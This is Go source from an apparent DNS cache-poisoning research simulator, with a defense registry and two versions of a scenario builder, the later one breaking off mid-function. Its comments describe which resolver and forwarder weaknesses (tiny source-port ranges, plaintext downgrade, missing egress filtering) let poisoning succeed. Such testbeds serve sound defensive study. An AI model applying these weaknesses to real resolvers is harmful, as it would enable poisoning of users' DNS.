		Apply: func(cfg *Config) { cfg.ServerCfg.RateLimit = false },
	}
}

// DefenseShuffle randomizes the authoritative server's answer-record
// order, so an injected fragment tail no longer matches the genuine
// first fragment's UDP checksum (§6.1).
func DefenseShuffle() DefenseSpec {
	return DefenseSpec{
		Key: "shuffle", Name: "randomized answer-record order",
		Apply: func(cfg *Config) { cfg.ServerCfg.RandomizeOrder = true },
	}
}

// BaseDefenses returns the canonical §6 countermeasure registry in
// paper order — the stackable units the campaign's defense-set lattice
// composes.
func BaseDefenses() []DefenseSpec {
	return []DefenseSpec{DefenseDNSSEC(), Defense0x20(), DefenseNoRRL(), DefenseShuffle()}
}

// applyDefenses runs the configured defense pipeline over the config
// in order. It is called by New once every other field is defaulted,
// so spec hooks see (and override) the final profile and server
// configuration.
func applyDefenses(cfg *Config) {
	for _, d := range cfg.Defenses {
		if d.Apply != nil {
			d.Apply(cfg)
		}
	}
}
