// Package scenario assembles the canonical testbed the paper's §3
// describes: a victim AS operating a recursive resolver and
// application servers, a target domain (vict.im) served by an
// authoritative nameserver in another AS, and an adversarial AS whose
// network does not enforce egress filtering. Attack implementations,
// application victims, measurements and examples all build on it.
package scenario

import (
	"net/netip"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/sim"
)

// Well-known addresses of the canonical scenario (mirroring the
// paper's Figures 1 and 2).
var (
	ResolverIP = netip.MustParseAddr("30.0.0.1")
	ServiceIP  = netip.MustParseAddr("30.0.0.25")
	ClientIP   = netip.MustParseAddr("30.0.0.30")
	NSIP       = netip.MustParseAddr("123.0.0.53")
	VictimWWW  = netip.MustParseAddr("123.0.0.80")
	VictimMail = netip.MustParseAddr("123.0.0.25")
	AttackerIP = netip.MustParseAddr("6.6.6.6")
	AtkNSIP    = netip.MustParseAddr("6.6.6.53")

	VictimPrefix   = netip.MustParsePrefix("30.0.0.0/22")
	DomainPrefix   = netip.MustParsePrefix("123.0.0.0/22")
	AttackerPrefix = netip.MustParsePrefix("6.6.6.0/24")
)

// AS numbers of the canonical scenario.
const (
	TransitAS  bgp.ASN = 1
	Transit2AS bgp.ASN = 2
	VictimAS   bgp.ASN = 10
	DomainAS   bgp.ASN = 20
	AttackerAS bgp.ASN = 66
)

// Config tunes scenario construction.
type Config struct {
	Seed int64
	// Profile of the victim resolver (default: BIND).
	Profile resolver.Profile
	// ServerCfg of the target domain's nameserver.
	ServerCfg dnssrv.Config
	// SignVictimZone publishes the victim zone with DNSSEC markers.
	SignVictimZone bool
	// OpenResolver makes the victim resolver answer external clients.
	OpenResolver bool

	// Defense knobs (the campaign matrix's defense dimension). Each
	// overrides the corresponding Profile behaviour, so a defense can
	// be switched on for any implementation profile without editing the
	// profile itself.

	// Force0x20 makes the resolver 0x20-encode query names and require
	// the response to echo the exact case.
	Force0x20 bool
	// ValidateDNSSEC makes the resolver reject answers without a valid
	// RRSIG for zones it knows to be signed; pair with SignVictimZone
	// for the victim zone to be protected.
	ValidateDNSSEC bool
}

// S is an assembled scenario.
type S struct {
	Clock *sim.Clock
	Topo  *bgp.Topology
	RIB   *bgp.RIB
	Net   *netsim.Network

	ResolverHost *netsim.Host
	Resolver     *resolver.Resolver
	NSHost       *netsim.Host
	NS           *dnssrv.Server
	VictimZone   *dnssrv.Zone
	ServiceHost  *netsim.Host // application server in the victim AS
	ClientHost   *netsim.Host // end user in the victim AS
	WWWHost      *netsim.Host // genuine web server of vict.im
	MailHost     *netsim.Host // genuine mail server of vict.im
	Attacker     *netsim.Host
	AtkNSHost    *netsim.Host
	AtkNS        *dnssrv.Server
}

// New assembles the canonical scenario.
func New(cfg Config) *S {
	if cfg.Profile.Name == "" {
		cfg.Profile = resolver.ProfileBIND
	}
	if cfg.Force0x20 {
		cfg.Profile.Use0x20 = true
	}
	if cfg.ValidateDNSSEC {
		cfg.Profile.ValidateDNSSEC = true
	}
	if cfg.ServerCfg == (dnssrv.Config{}) {
		cfg.ServerCfg = dnssrv.DefaultConfig()
	}
	clock := sim.NewClock(cfg.Seed)
	topo := bgp.NewTopology()
	topo.AddAS(TransitAS, 1)
	topo.AddAS(Transit2AS, 1)
	topo.AddPeering(TransitAS, Transit2AS)
	topo.AddAS(VictimAS, 3)
	topo.AddAS(DomainAS, 3)
	topo.AddAS(AttackerAS, 3)
	topo.AddProviderCustomer(TransitAS, VictimAS)
	topo.AddProviderCustomer(TransitAS, DomainAS)
	topo.AddProviderCustomer(Transit2AS, AttackerAS)
	topo.AddProviderCustomer(Transit2AS, DomainAS)

	rib := bgp.NewRIB(topo, nil)
	net := netsim.New(clock, topo, rib)
	rib.Announce(VictimPrefix, VictimAS)
	rib.Announce(DomainPrefix, DomainAS)
	rib.Announce(AttackerPrefix, AttackerAS)

	s := &S{Clock: clock, Topo: topo, RIB: rib, Net: net}
	s.ResolverHost = net.AddHost("resolver.victim-net", VictimAS, ResolverIP)
	s.ServiceHost = net.AddHost("service.victim-net", VictimAS, ServiceIP)
	s.ClientHost = net.AddHost("client.victim-net", VictimAS, ClientIP)
	s.NSHost = net.AddHost("ns1.vict.im", DomainAS, NSIP)
	s.WWWHost = net.AddHost("www.vict.im", DomainAS, VictimWWW)
	s.MailHost = net.AddHost("mail.vict.im", DomainAS, VictimMail)
	s.Attacker = net.AddHost("attacker", AttackerAS, AttackerIP)
	s.AtkNSHost = net.AddHost("ns.atk.example", AttackerAS, AtkNSIP)
	net.AS(AttackerAS).EgressFiltering = false

	s.VictimZone = BuildVictimZone(cfg.SignVictimZone)
	s.NS = dnssrv.New(s.NSHost, cfg.ServerCfg)
	s.NS.AddZone(s.VictimZone)

	atkZone := dnssrv.NewZone("atk.example.")
	atkZone.Add(
		dnswire.NewSOA("atk.example.", 3600, "ns.atk.example.", "root.atk.example.", 1),
		dnswire.NewNS("atk.example.", 3600, "ns.atk.example."),
		dnswire.NewA("ns.atk.example.", 3600, AtkNSIP),
		dnswire.NewA("atk.example.", 60, AttackerIP),
		dnswire.NewMX("atk.example.", 60, 10, "mail.atk.example."),
		dnswire.NewA("mail.atk.example.", 60, AttackerIP),
	)
	s.AtkNS = dnssrv.New(s.AtkNSHost, dnssrv.DefaultConfig())
	s.AtkNS.AddZone(atkZone)

	s.Resolver = resolver.New(s.ResolverHost, cfg.Profile)
	s.Resolver.Open = cfg.OpenResolver
	s.Resolver.AddZoneServer("vict.im.", NSIP)
	s.Resolver.AddZoneServer("atk.example.", AtkNSIP)
	if cfg.SignVictimZone {
		s.Resolver.SetKnownSigned("vict.im.", true)
	}
	return s
}

// BuildVictimZone constructs vict.im with the record types Table 1's
// applications consume.
func BuildVictimZone(signed bool) *dnssrv.Zone {
	z := dnssrv.NewZone("vict.im.")
	z.Signed = signed
	z.Add(
		dnswire.NewSOA("vict.im.", 3600, "ns1.vict.im.", "hostmaster.vict.im.", 2021082301),
		dnswire.NewNS("vict.im.", 3600, "ns1.vict.im."),
		dnswire.NewA("ns1.vict.im.", 3600, NSIP),
		dnswire.NewA("vict.im.", 300, VictimWWW),
		dnswire.NewA("www.vict.im.", 300, VictimWWW),
		dnswire.NewMX("vict.im.", 300, 10, "mail.vict.im."),
		dnswire.NewA("mail.vict.im.", 300, VictimMail),
		dnswire.NewTXT("vict.im.", 300, "v=spf1 ip4:123.0.0.0/22 -all"),
		dnswire.NewTXT("_dmarc.vict.im.", 300, "v=DMARC1; p=reject"),
		dnswire.NewTXT("sel1._domainkey.vict.im.", 300, "v=DKIM1; k=rsa; p=MIGfMA0GCSq"),
		dnswire.NewSRV("_xmpp-server._tcp.vict.im.", 300, 5, 0, 5269, "www.vict.im."),
		dnswire.NewNAPTR("vict.im.", 300, 100, 10, "s", "x-eduroam:radius.tls", "_radsec._tcp.vict.im."),
		dnswire.NewSRV("_radsec._tcp.vict.im.", 300, 0, 0, 2083, "www.vict.im."),
		dnswire.NewA("ntp.vict.im.", 300, VictimWWW),
		dnswire.NewA("vpn.vict.im.", 300, VictimWWW),
		dnswire.NewA("ocsp.vict.im.", 300, VictimWWW),
		dnswire.NewA("rpki.vict.im.", 300, VictimWWW),
		dnswire.NewA("seed.vict.im.", 300, VictimWWW),
	)
	return z
}

// Run drains the event queue.
func (s *S) Run() { s.Net.Run() }

// Poisoned reports whether (name, typ) in the victim resolver's cache
// resolves to an attacker-controlled address — the ground-truth check
// every experiment uses.
func (s *S) Poisoned(name string, typ dnswire.Type) bool {
	rrs, neg, ok := s.Resolver.Cache.Get(name, typ)
	if !ok || neg {
		return false
	}
	for _, rr := range rrs {
		switch d := rr.Data.(type) {
		case *dnswire.AData:
			if AttackerPrefix.Contains(d.Addr) {
				return true
			}
		case *dnswire.MXData:
			if dnswire.InBailiwick(d.Host, "atk.example.") {
				return true
			}
		case *dnswire.NSData:
			if dnswire.InBailiwick(d.Host, "atk.example.") {
				return true
			}
		}
	}
	return false
}
