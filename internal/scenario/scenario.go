// Package scenario assembles the canonical testbed the paper's §3
// describes: a victim AS operating a recursive resolver and
// application servers, a target domain (vict.im) served by an
// authoritative nameserver in another AS, and an adversarial AS whose
// network does not enforce egress filtering. Attack implementations,
// application victims, measurements and examples all build on it.
package scenario

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/deploy"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/pool"
	"crosslayer/internal/resolver"
	"crosslayer/internal/sim"
)

// Well-known addresses of the canonical scenario (mirroring the
// paper's Figures 1 and 2).
var (
	ResolverIP = netip.MustParseAddr("30.0.0.1")
	ServiceIP  = netip.MustParseAddr("30.0.0.25")
	ClientIP   = netip.MustParseAddr("30.0.0.30")
	NSIP       = netip.MustParseAddr("123.0.0.53")
	VictimWWW  = netip.MustParseAddr("123.0.0.80")
	VictimMail = netip.MustParseAddr("123.0.0.25")
	AttackerIP = netip.MustParseAddr("6.6.6.6")
	AtkNSIP    = netip.MustParseAddr("6.6.6.53")

	VictimPrefix   = netip.MustParsePrefix("30.0.0.0/22")
	DomainPrefix   = netip.MustParsePrefix("123.0.0.0/22")
	AttackerPrefix = netip.MustParsePrefix("6.6.6.0/24")
)

// AS numbers of the canonical scenario.
const (
	TransitAS  bgp.ASN = 1
	Transit2AS bgp.ASN = 2
	VictimAS   bgp.ASN = 10
	DomainAS   bgp.ASN = 20
	AttackerAS bgp.ASN = 66
	// CarrierAS is the transit carrier the attacker's stub buys access
	// from; PlacementCarrier moves the attacker's hosts into it.
	CarrierAS bgp.ASN = 3
)

// Placement selects where the attacker operates from — the campaign
// matrix's attacker-placement axis.
type Placement int8

// Placement values.
const (
	// PlacementStub is the default: the attacker runs in its own stub
	// AS behind a carrier, like any eyeball customer (the paper's §3
	// setting — off-path, default access latency).
	PlacementStub Placement = iota
	// PlacementCarrier moves the attacker's hosts into the carrier AS
	// itself (a compromised or complicit transit operator): the AS sits
	// on the BGP path position between the stub world and the victim,
	// originates the attacker prefix from tier 2, never deploys SAV,
	// and reaches every target over backbone (not access-link) latency.
	PlacementCarrier
)

// String returns the placement's registry key.
func (p Placement) String() string {
	if p == PlacementCarrier {
		return "carrier"
	}
	return "stub"
}

// ForwarderSpec configures one hop of the victim-side forwarder chain
// (§4.3): an open DNS forwarder the client's queries ride through
// before reaching the recursive resolver.
type ForwarderSpec struct {
	// PortSpan is the size of the hop's ephemeral source-port range;
	// 0 means 64 (embedded forwarder devices expose tiny ranges — the
	// property that makes a forwarder the chain's weakest hop for a
	// port-inference attack).
	PortSpan uint16
	// TTLCap (seconds) clamps TTLs entering the hop's cache; 0 honours
	// upstream TTLs.
	TTLCap uint32
	// NoCache makes the hop a pure relay without a per-hop cache.
	NoCache bool
	// CheckBailiwick enables the hop's name-match response filter.
	CheckBailiwick bool
	// Transport is the hop's upstream transport (zero value: plaintext
	// UDP). Stream transports expose no spoofable port/TXID surface.
	Transport resolver.Transport
	// Opportunistic lets an encrypted hop fall back to plaintext UDP
	// when its upstream session fails — the downgrade-attack surface.
	Opportunistic bool
}

// DefaultForwarderPortSpan is the ephemeral port span a ForwarderSpec
// with PortSpan 0 gets.
const DefaultForwarderPortSpan = 64

// forwarderPortMin is the bottom of every forwarder hop's ephemeral
// range (distinct from the resolver's 32768+ range so port-scan tests
// can tell the two apart).
const forwarderPortMin = 40000

// ForwarderIP returns the address of chain hop i (hop 0 is the entry
// forwarder the client queries).
func ForwarderIP(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{30, 0, 0, byte(40 + i)})
}

// fwdNames precomputes the hop hostnames every chain build would
// otherwise fmt.Sprintf per hop per build; deeper chains than the
// table fall back to formatting.
var fwdNames = func() (names [16]string) {
	for i := range names {
		names[i] = fmt.Sprintf("fwd%d.victim-net", i)
	}
	return
}()

func fwdName(i int) string {
	if i < len(fwdNames) {
		return fwdNames[i]
	}
	return fmt.Sprintf("fwd%d.victim-net", i)
}

// Config tunes scenario construction.
type Config struct {
	Seed int64
	// Profile of the victim resolver (default: BIND).
	Profile resolver.Profile
	// ServerCfg of the target domain's nameserver.
	ServerCfg dnssrv.Config
	// SignVictimZone publishes the victim zone with DNSSEC markers.
	SignVictimZone bool
	// OpenResolver makes the victim resolver answer external clients.
	OpenResolver bool

	// Defenses is the ordered §6 countermeasure pipeline (the campaign
	// matrix's defense axis). New applies each spec in order after
	// every other field is defaulted, so a spec can override the
	// selected profile or server behaviour without editing either —
	// and specs stack: Defenses{Defense0x20(), DefenseShuffle()} builds
	// a scenario hardened by both. See DefenseSpec for the pipeline's
	// ordering and idempotence rules.
	Defenses []DefenseSpec

	// Deployment selects the deployment population the world is
	// sampled from (the campaign's deployment axis): per-AS SAV rates
	// instead of the binary egress-filtering booleans, partial defense
	// deployment on the resolver, and per-hop forwarder port-span /
	// bailiwick distributions. The zero value is the canonical dataset
	// — no sampling, every toggle exactly as configured. Sampling
	// draws from a dedicated splitmix64 stream keyed by the scenario
	// seed in a fixed order (never from the clock's math/rand
	// streams), and Reset re-samples under the trial's seed, so both
	// lifecycles see identical worlds.
	Deployment deploy.Dataset

	// ForwarderChain inserts open DNS forwarders between the client and
	// the recursive resolver (§4.3): the client queries hop 0, hop i
	// relays to hop i+1, and the last hop relays to the resolver. Empty
	// means the client queries the resolver directly (depth 0).
	ForwarderChain []ForwarderSpec
	// Placement selects where the attacker's hosts operate from
	// (default: its own stub AS).
	Placement Placement

	// WirePool, when non-nil, is the wire-buffer arena the scenario's
	// network recycles packet payloads through (netsim.SetWirePool).
	// Trial runners that build many scenarios on one goroutine share a
	// single arena across them so warmed buffer classes carry over;
	// nil keeps the network's private pool. Single-goroutine, like the
	// simulation itself.
	WirePool *pool.Wire
	// EventPool and DeliveryPool are the clock-event and in-flight
	// delivery freelists, shareable across scenarios exactly like
	// WirePool; nil keeps the private per-clock/per-network lists.
	EventPool    *sim.EventPool
	DeliveryPool *netsim.DeliveryPool

	// Proto, when non-nil, memoizes the build artifacts that are
	// identical across scenarios and immutable (or restored) at run
	// time: the placement-keyed topology+RIB pair and the zone RR
	// templates. Like the pools it is single-goroutine state owned by
	// one trial runner. Scenarios built without a Proto behave exactly
	// as before.
	Proto *Proto
}

// Proto caches the scenario build artifacts one trial runner may share
// across the many worlds it assembles: the two placement-keyed
// topology+RIB computations and the immutable zone templates. Zones
// are mutation-free under serving and the RIB is restored to its
// baseline by every S.Reset, so sharing changes no observable
// behaviour.
type Proto struct {
	routing     map[Placement]*protoRouting
	victimZones map[bool]*dnssrv.Zone
	atkZone     *dnssrv.Zone
}

type protoRouting struct {
	topo *bgp.Topology
	rib  *bgp.RIB
	snap *bgp.RIBSnapshot
}

func (p *Proto) routingFor(pl Placement) *protoRouting {
	if p.routing == nil {
		p.routing = make(map[Placement]*protoRouting)
	}
	pr := p.routing[pl]
	if pr == nil {
		topo, rib := buildRouting(pl)
		pr = &protoRouting{topo: topo, rib: rib, snap: rib.Snapshot()}
		p.routing[pl] = pr
	}
	return pr
}

func (p *Proto) victimZone(signed bool) *dnssrv.Zone {
	if p.victimZones == nil {
		p.victimZones = make(map[bool]*dnssrv.Zone)
	}
	z := p.victimZones[signed]
	if z == nil {
		z = BuildVictimZone(signed)
		p.victimZones[signed] = z
	}
	return z
}

func (p *Proto) attackerZone() *dnssrv.Zone {
	if p.atkZone == nil {
		p.atkZone = buildAttackerZone()
	}
	return p.atkZone
}

// buildRouting constructs the BGP layer for a placement: the canonical
// topology (plus the carrier tier when the attacker operates from one)
// and a RIB with the three baseline prefix originations announced.
func buildRouting(pl Placement) (*bgp.Topology, *bgp.RIB) {
	topo := bgp.NewTopology()
	topo.AddAS(TransitAS, 1)
	topo.AddAS(Transit2AS, 1)
	topo.AddPeering(TransitAS, Transit2AS)
	topo.AddAS(VictimAS, 3)
	topo.AddAS(DomainAS, 3)
	topo.AddAS(AttackerAS, 3)
	topo.AddProviderCustomer(TransitAS, VictimAS)
	topo.AddProviderCustomer(TransitAS, DomainAS)
	topo.AddProviderCustomer(Transit2AS, AttackerAS)
	topo.AddProviderCustomer(Transit2AS, DomainAS)
	atkASN := AttackerAS
	if pl == PlacementCarrier {
		// The carrier sits at the BGP path position every route to the
		// attacker's stub crosses: tier 2, peering with both transits,
		// selling access to the stub. The attacker's hosts move into it.
		topo.AddAS(CarrierAS, 2)
		topo.AddPeering(CarrierAS, TransitAS)
		topo.AddPeering(CarrierAS, Transit2AS)
		topo.AddProviderCustomer(CarrierAS, AttackerAS)
		atkASN = CarrierAS
	}
	rib := bgp.NewRIB(topo, nil)
	rib.Announce(VictimPrefix, VictimAS)
	rib.Announce(DomainPrefix, DomainAS)
	rib.Announce(AttackerPrefix, atkASN)
	return topo, rib
}

// buildAttackerZone constructs the attacker's own zone (atk.example).
func buildAttackerZone() *dnssrv.Zone {
	z := dnssrv.NewZone("atk.example.")
	z.Add(
		dnswire.NewSOA("atk.example.", 3600, "ns.atk.example.", "root.atk.example.", 1),
		dnswire.NewNS("atk.example.", 3600, "ns.atk.example."),
		dnswire.NewA("ns.atk.example.", 3600, AtkNSIP),
		dnswire.NewA("atk.example.", 60, AttackerIP),
		dnswire.NewMX("atk.example.", 60, 10, "mail.atk.example."),
		dnswire.NewA("mail.atk.example.", 60, AttackerIP),
	)
	return z
}

// S is an assembled scenario.
type S struct {
	Clock *sim.Clock
	Topo  *bgp.Topology
	RIB   *bgp.RIB
	Net   *netsim.Network

	ResolverHost *netsim.Host
	Resolver     *resolver.Resolver
	NSHost       *netsim.Host
	NS           *dnssrv.Server
	VictimZone   *dnssrv.Zone
	ServiceHost  *netsim.Host // application server in the victim AS
	ClientHost   *netsim.Host // end user in the victim AS
	WWWHost      *netsim.Host // genuine web server of vict.im
	MailHost     *netsim.Host // genuine mail server of vict.im
	Attacker     *netsim.Host
	AtkNSHost    *netsim.Host
	AtkNS        *dnssrv.Server
	// Forwarders is the victim-side chain in client order: Forwarders[0]
	// is the entry hop the client queries (empty at depth 0).
	Forwarders []*resolver.Forwarder
	// AttackerASN is the AS the attacker's hosts operate from —
	// AttackerAS for PlacementStub, CarrierAS for PlacementCarrier.
	AttackerASN bgp.ASN

	// ribSnap is the routing baseline Reset restores; captured at
	// build time for memoized RIBs and by Snapshot otherwise.
	ribSnap *bgp.RIBSnapshot

	// deployment is the population the world samples per trial; the
	// base* fields capture the resolver's post-defense configuration
	// so per-trial sampling composes with the defense pipeline as
	// downgrade-only probabilistic application (a dataset can withhold
	// a configured defense, never invent one).
	deployment   deploy.Dataset
	base0x20     bool
	baseValidate bool
}

// New assembles the canonical scenario.
func New(cfg Config) *S {
	if cfg.Profile.Name == "" {
		cfg.Profile = resolver.ProfileBIND
	}
	if cfg.ServerCfg == (dnssrv.Config{}) {
		cfg.ServerCfg = dnssrv.DefaultConfig()
	}
	applyDefenses(&cfg)
	clock := sim.NewClock(cfg.Seed)
	clock.SetEventPool(cfg.EventPool)
	atkASN := AttackerAS
	if cfg.Placement == PlacementCarrier {
		atkASN = CarrierAS
	}
	var topo *bgp.Topology
	var rib *bgp.RIB
	var ribSnap *bgp.RIBSnapshot
	if cfg.Proto != nil {
		pr := cfg.Proto.routingFor(cfg.Placement)
		topo, rib, ribSnap = pr.topo, pr.rib, pr.snap
		// The memoized RIB is shared across every cell this worker
		// runs; restore its baseline (a compare-only no-op when the
		// previous user's attacks withdrew cleanly) so a world straight
		// out of New never sees a neighbour's leftover routes.
		rib.Restore(ribSnap)
	} else {
		topo, rib = buildRouting(cfg.Placement)
	}
	net := netsim.New(clock, topo, rib)
	if cfg.WirePool != nil {
		net.SetWirePool(cfg.WirePool)
	}
	net.SetDeliveryPool(cfg.DeliveryPool)

	s := &S{Clock: clock, Topo: topo, RIB: rib, Net: net, AttackerASN: atkASN, ribSnap: ribSnap}
	s.ResolverHost = net.AddHost("resolver.victim-net", VictimAS, ResolverIP)
	s.ServiceHost = net.AddHost("service.victim-net", VictimAS, ServiceIP)
	s.ClientHost = net.AddHost("client.victim-net", VictimAS, ClientIP)
	s.NSHost = net.AddHost("ns1.vict.im", DomainAS, NSIP)
	s.WWWHost = net.AddHost("www.vict.im", DomainAS, VictimWWW)
	s.MailHost = net.AddHost("mail.vict.im", DomainAS, VictimMail)
	s.Attacker = net.AddHost("attacker", atkASN, AttackerIP)
	s.AtkNSHost = net.AddHost("ns.atk.example", atkASN, AtkNSIP)
	net.AS(atkASN).EgressFiltering = false
	if cfg.Placement == PlacementCarrier {
		// Backbone access: the carrier reaches everyone faster than a
		// stub behind a default access link.
		net.AS(CarrierAS).AccessLatency = 3 * time.Millisecond
	}

	var atkZone *dnssrv.Zone
	if cfg.Proto != nil {
		s.VictimZone = cfg.Proto.victimZone(cfg.SignVictimZone)
		atkZone = cfg.Proto.attackerZone()
	} else {
		s.VictimZone = BuildVictimZone(cfg.SignVictimZone)
		atkZone = buildAttackerZone()
	}
	s.NS = dnssrv.New(s.NSHost, cfg.ServerCfg)
	s.NS.AddZone(s.VictimZone)
	s.AtkNS = dnssrv.New(s.AtkNSHost, dnssrv.DefaultConfig())
	s.AtkNS.AddZone(atkZone)

	s.Resolver = resolver.New(s.ResolverHost, cfg.Profile)
	s.Resolver.Open = cfg.OpenResolver
	s.Resolver.AddZoneServer("vict.im.", NSIP)
	s.Resolver.AddZoneServer("atk.example.", AtkNSIP)
	if cfg.SignVictimZone {
		s.Resolver.SetKnownSigned("vict.im.", true)
	}

	// Forwarder chain, built from the resolver outward: hop i relays to
	// hop i+1, the last hop relays to the resolver, the client queries
	// hop 0. Every hop is an open forwarder in the victim network (the
	// home-router/CPE population of §4.3) with its own ephemeral port
	// range and, unless disabled, a per-hop cache.
	if n := len(cfg.ForwarderChain); n > 0 {
		s.Forwarders = make([]*resolver.Forwarder, n)
		for i := n - 1; i >= 0; i-- {
			spec := cfg.ForwarderChain[i]
			upstream := ResolverIP
			if i < n-1 {
				upstream = ForwarderIP(i + 1)
			}
			host := net.AddHost(fwdName(i), VictimAS, ForwarderIP(i))
			span := spec.PortSpan
			if span == 0 {
				span = DefaultForwarderPortSpan
			}
			host.Cfg.PortMin = forwarderPortMin
			host.Cfg.PortMax = forwarderPortMin + span - 1
			if spec.NoCache {
				s.Forwarders[i] = resolver.NewForwarder(host, upstream)
			} else {
				s.Forwarders[i] = resolver.NewCachingForwarder(host, upstream, spec.TTLCap, spec.CheckBailiwick)
			}
			s.Forwarders[i].Transport = spec.Transport
			s.Forwarders[i].Opportunistic = spec.Opportunistic
		}
	}

	// Deployment sampling runs last: the canonical world above is the
	// baseline a dataset draws concrete worlds from, and the captured
	// post-defense resolver flags are what partial defense deployment
	// downgrades from. Reset re-runs the same draws under the trial's
	// seed.
	s.deployment = cfg.Deployment
	s.base0x20 = s.Resolver.Prof.Use0x20
	s.baseValidate = s.Resolver.Prof.ValidateDNSSEC
	s.applyDeployment(cfg.Seed)
	return s
}

// deploySalt decorrelates the deployment sampling stream from the
// clock seed (the same int64 feeds both).
const deploySalt = 0x6465706c6f79 // "deploy"

// applyDeployment samples this trial's concrete world from the
// scenario's deployment dataset: per-AS egress filtering, the
// resolver's effectively deployed defenses, and each forwarder hop's
// port span and bailiwick behaviour. Draws come from a dedicated
// splitmix64 stream in fixed creation order — ordinary ASes, the
// attacker's operating AS, resolver flags, then hops in client order —
// so a Reset(seed) reproduces exactly the world a fresh New with that
// seed would sample. Every sampled field is overwritten absolutely,
// which makes the draw idempotent against whatever the previous trial
// sampled. The canonical dataset returns without touching anything.
func (s *S) applyDeployment(seed int64) {
	d := s.deployment
	if d.Canonical() {
		return
	}
	rng := deploy.NewRand(seed ^ deploySalt)
	// Ordinary ASes draw from the population SAV rate; the attacker's
	// operating AS from the (much lower) rate of networks attackers
	// manage to operate from. The canonical world's hard booleans
	// (everyone filters, the attacker's AS never does) are the
	// rate-1/rate-0 corner of this draw.
	for _, asn := range []bgp.ASN{TransitAS, Transit2AS, VictimAS, DomainAS} {
		s.Net.AS(asn).EgressFiltering = d.SAV.Sample(rng)
	}
	s.Net.AS(s.AttackerASN).EgressFiltering = d.AttackerSAV.Sample(rng)
	// Partial defense deployment: draw unconditionally (fixed draw
	// count), apply downgrade-only against the post-defense baseline.
	keep0x20 := d.Use0x20.Sample(rng)
	keepValidate := d.ValidateDNSSEC.Sample(rng)
	s.Resolver.Prof.Use0x20 = s.base0x20 && keep0x20
	s.Resolver.Prof.ValidateDNSSEC = s.baseValidate && keepValidate
	// Forwarder population: each hop draws its device class's port
	// span (plus jitter) and whether it bothers with bailiwick
	// filtering, replacing the canonical chain constants.
	for _, f := range s.Forwarders {
		span := d.PortSpan.Sample(rng) + uint16(d.SpanJitter.Sample(rng))
		if span == 0 {
			span = DefaultForwarderPortSpan
		}
		f.Host.Cfg.PortMin = forwarderPortMin
		f.Host.Cfg.PortMax = forwarderPortMin + span - 1
		f.CheckBailiwick = d.Bailiwick.Sample(rng)
	}
}

// DNSAddr returns the server the victim's client-side applications
// query: the entry forwarder when a chain is configured, otherwise the
// recursive resolver.
func (s *S) DNSAddr() netip.Addr {
	if len(s.Forwarders) > 0 {
		return s.Forwarders[0].Host.Addr
	}
	return ResolverIP
}

// BuildVictimZone constructs vict.im with the record types Table 1's
// applications consume.
func BuildVictimZone(signed bool) *dnssrv.Zone {
	z := dnssrv.NewZone("vict.im.")
	z.Signed = signed
	z.Add(
		dnswire.NewSOA("vict.im.", 3600, "ns1.vict.im.", "hostmaster.vict.im.", 2021082301),
		dnswire.NewNS("vict.im.", 3600, "ns1.vict.im."),
		dnswire.NewA("ns1.vict.im.", 3600, NSIP),
		dnswire.NewA("vict.im.", 300, VictimWWW),
		dnswire.NewA("www.vict.im.", 300, VictimWWW),
		dnswire.NewMX("vict.im.", 300, 10, "mail.vict.im."),
		dnswire.NewA("mail.vict.im.", 300, VictimMail),
		dnswire.NewTXT("vict.im.", 300, "v=spf1 ip4:123.0.0.0/22 -all"),
		dnswire.NewTXT("_dmarc.vict.im.", 300, "v=DMARC1; p=reject"),
		dnswire.NewTXT("sel1._domainkey.vict.im.", 300, "v=DKIM1; k=rsa; p=MIGfMA0GCSq"),
		dnswire.NewSRV("_xmpp-server._tcp.vict.im.", 300, 5, 0, 5269, "www.vict.im."),
		dnswire.NewNAPTR("vict.im.", 300, 100, 10, "s", "x-eduroam:radius.tls", "_radsec._tcp.vict.im."),
		dnswire.NewSRV("_radsec._tcp.vict.im.", 300, 0, 0, 2083, "www.vict.im."),
		dnswire.NewA("ntp.vict.im.", 300, VictimWWW),
		dnswire.NewA("vpn.vict.im.", 300, VictimWWW),
		dnswire.NewA("ocsp.vict.im.", 300, VictimWWW),
		dnswire.NewA("rpki.vict.im.", 300, VictimWWW),
		dnswire.NewA("seed.vict.im.", 300, VictimWWW),
	)
	return z
}

// Run drains the event queue.
func (s *S) Run() { s.Net.Run() }

// Snapshot records the post-build state Reset rewinds to: every host's
// config and port bindings, plus the routing baseline. Call once, after
// New and any scenario-level customization (deployed defenses, stamped
// transports), before traffic runs. Opt-in so builds that never reset
// don't pay for it.
func (s *S) Snapshot() {
	s.Net.Snapshot()
	if s.ribSnap == nil {
		s.ribSnap = s.RIB.Snapshot()
	}
}

// Reset rewinds the assembled world to its snapshotted post-build
// state and reseeds it, so the same scenario value runs another trial
// exactly as a fresh New(cfg with Seed: seed) build would: the clock
// restarts at zero with replayed per-host random streams, hosts drop
// all ephemeral state, routing returns to baseline, the resolver,
// forwarder hops and both nameservers rewind caches / inflight work /
// downgrade state / counters, and warmed pools (wire buffers, event
// nodes, delivery nodes) carry over. Snapshot must have been called.
func (s *S) Reset(seed int64) {
	s.Net.Reset(seed)
	s.RIB.Restore(s.ribSnap)
	s.Resolver.Reset()
	for _, f := range s.Forwarders {
		f.Reset()
	}
	s.NS.Reset()
	s.AtkNS.Reset()
	// Re-sample the deployment draws under this trial's seed, after
	// every baseline restore above — the same last-word position the
	// sampling holds in New.
	s.applyDeployment(seed)
}

// Poisoned reports whether (name, typ) in the victim resolver's cache
// resolves to an attacker-controlled address — the ground-truth check
// every experiment uses.
func (s *S) Poisoned(name string, typ dnswire.Type) bool {
	rrs, neg, ok := s.Resolver.Cache.Get(name, typ)
	if !ok || neg {
		return false
	}
	return AttackerOwned(rrs)
}

// ChainPoisoned reports whether the resolution chain, as the victim's
// client sees it, serves an attacker-controlled record for (name, typ):
// hops are walked in client order and the first hop holding a cached
// answer decides (exactly how a client query would be answered), with
// the recursive resolver's cache as the final hop. At depth 0 this is
// Poisoned.
func (s *S) ChainPoisoned(name string, typ dnswire.Type) bool {
	for _, f := range s.Forwarders {
		if f.Cache == nil {
			continue
		}
		if rrs, neg, ok := f.Cache.Get(name, typ); ok {
			if neg {
				return false
			}
			return AttackerOwned(rrs)
		}
